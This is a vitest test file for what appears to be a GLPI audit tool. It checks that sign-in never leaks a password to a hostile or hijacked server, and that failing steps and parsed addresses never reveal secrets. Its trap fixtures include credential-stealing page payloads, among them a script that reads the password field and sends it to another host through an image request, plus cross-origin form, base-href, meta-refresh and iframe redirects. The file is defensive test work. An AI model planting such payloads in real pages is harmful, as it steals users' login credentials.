import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { runSteps } from "../../src/audit/pages.ts";
import { signIn } from "../../src/audit/sign-in.ts";
import { parseAddress } from "../../src/util/address.ts";
import { covered, forgetSecrets, keepSecret, withoutSecrets } from "../../src/util/secrets.ts";
import { type LaunchedBrowser, launchBrowser } from "../../src/visual/browser.ts";
import { listenBeside, type Neighbour } from "../helpers/neighbour.ts";
import { form, html, type Login, page, startTrapServer, type TrapServer } from "../helpers/trap-server.ts";

/*
 * Where a password goes when the server is no GLPI, or one that somebody took over; and what is ever said of it.
 */

const user = "anna";
const password = 'p@ss "w<rd>&ü9';

let launched: LaunchedBrowser;
let beside: Neighbour;
let server: TrapServer;

beforeAll(async () => {
  beside = await listenBeside();
  server = await startTrapServer(`http://127.0.0.1:${beside.port}`);
  launched = await launchBrowser({ network: true });
});
afterEach(() => {
  server.posted.length = 0;
  beside.seen.length = 0;
  forgetSecrets();
});
afterAll(async () => {
  await launched?.close();
  server?.close();
  await beside?.close();
});

const attempt = (): Promise<unknown> =>
  signIn(launched.browser, server.address, { user, password }, "the user of GLPI_USER").then(
    (session) => session.map(({ name, domain }) => `${name} ${domain}`),
    (error: Error) => error.message,
  );

test("user and password are posted to GLPI, and its session comes back for that host alone", async () => {
  server.login = (_, response) => page(response, form("/front/login.php"));
  expect(await attempt()).toEqual(["session 127.0.0.1"]);
  expect(Object.fromEntries(new URLSearchParams(server.posted[0]))).toEqual({
    a1: user,
    b2: password,
    token: "t",
    submit: "1",
  });
});

const traps: [name: string, answer: (other: string) => Login, says: RegExp, reaches: number][] = [
  [
    "a sign-in page that lies elsewhere",
    (other) => (_, response) => void response.writeHead(302, { location: `${other}/index.php` }).end(),
    /leads to http:\/\/127.*, which was given nothing/,
    0,
  ],
  [
    "a form that posts elsewhere",
    (other) => (_, response) => page(response, form(`${other}/login`)),
    /would send user and password to http/,
    0,
  ],
  [
    "a base that leads elsewhere",
    (other) => (_, response) => page(response, form("login").replace("<title>", `<base href="${other}/"><title>`)),
    /would send user and password to http/,
    0,
  ],
  [
    "an answer that passes the form on",
    () => (_, response) => page(response, form("/moved")),
    /leads to http:\/\/127.*, which was given nothing/,
    1,
  ],
  [
    "a form in another window",
    () => (_, response) => page(response, form("/moved", 'target="_blank"')),
    /leads to|refused/,
    1,
  ],
  [
    "a form that shows what it sends",
    (other) => (_, response) => page(response, form(other).replace('method="post"', 'method="get"')),
    /would send|no login form/,
    0,
  ],
  [
    "a script that reads the field",
    (other) => (_, response) =>
      page(
        response,
        `${form("/refused")}<script>setInterval(() => new Image().src = "${other}/?" + document.querySelector("[type=password]").value, 1)</script>`,
      ),
    /GLPI refused/,
    1,
  ],
  [
    "a button that sends elsewhere",
    (other) => (_, response) =>
      page(response, form("/refused").replace("<button", `<button formaction="${other}/login"`)),
    /GLPI refused/,
    1,
  ],
  [
    "a page that leads elsewhere by itself",
    (other) => (_, response) =>
      page(response, `${form("/refused")}<meta http-equiv="refresh" content="0;url=${other}/">`),
    /GLPI refused|leads to/,
    1,
  ],
  [
    "a frame that asks instead",
    (other) => (_, response) => page(response, html(`<iframe src="${other}/index.php"></iframe>`)),
    /leads to|no login form/,
    0,
  ],
];

test.each(traps)("%s is told neither user nor password", async (_, answer, says, reaches) => {
  server.login = answer(`http://127.0.0.1:${beside.port}`);
  const said = String(await attempt());
  expect(said).toMatch(says);
  expect(said).not.toContain(password);
  expect(said).not.toContain(user);
  expect(beside.seen).toEqual([]);
  // What reached the GLPI that was named, and was meant for it.
  expect(server.posted.length).toBeLessThanOrEqual(reaches);
});

test("a step's failure says what it did, not what it typed", { timeout: 60_000 }, async () => {
  const context = await launched.browser.newContext();
  const opened = await context.newPage();
  await opened.goto(server.address);
  const secret = "hunter2-hunter2";
  const steps = [
    { do: "eval" as const, js: `${secret}.x` },
    { do: "goto" as const, url: `:0/?token=${secret}` },
    { do: "press" as const, key: secret },
    { do: "fill" as const, sel: "button", text: secret },
  ];
  for (const step of steps) {
    const said = await runSteps(opened, [step], server.address).then(
      () => "done",
      (error: Error) => error.message,
    );
    expect(said).toMatch(/^step 1 \(/);
    expect(said).not.toContain(secret);
  }
  await opened.setContent('<input type="password" id="field"><p></p>');
  await runSteps(opened, [{ do: "fill", sel: "#field", text: secret }], server.address);
  expect(withoutSecrets(`shown again: ${secret}, ${encodeURIComponent(secret)}`)).toBe(
    `shown again: ${covered}, ${covered}`,
  );
  await context.close();
});

test("a secret is covered in every way it is written", () => {
  keepSecret(password);
  for (const form of [
    password,
    encodeURIComponent(password),
    new URLSearchParams({ p: password }).toString(),
    JSON.stringify(password),
    password.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
    Buffer.from(password).toString("base64"),
  ]) {
    expect(withoutSecrets(form)).toContain(covered);
    expect(withoutSecrets(form)).not.toMatch(/p@ss|p%40ss|w<rd|w&lt;rd/);
  }
  keepSecret("glpi");
  expect(withoutSecrets("GLPI 10 under /glpi")).toBe("GLPI 10 under /glpi");
});

test("an address is read without its user, and what is none is not repeated", () => {
  expect(parseAddress("https://anna:s3cret%21x@glpi.example/glpi/#x", "--url")).toEqual({
    url: "https://glpi.example/glpi",
    origin: "https://glpi.example",
    user: "anna",
    password: "s3cret!x",
  });
  for (const text of ["anna:s3cret@glpi", "ftp://anna:s3cret@glpi.example", "http://anna:s3cret@", "http://[s3cret"])
    expect(() => parseAddress(text, "--url")).toThrow(/^--url is no address\. Write it as/);
});
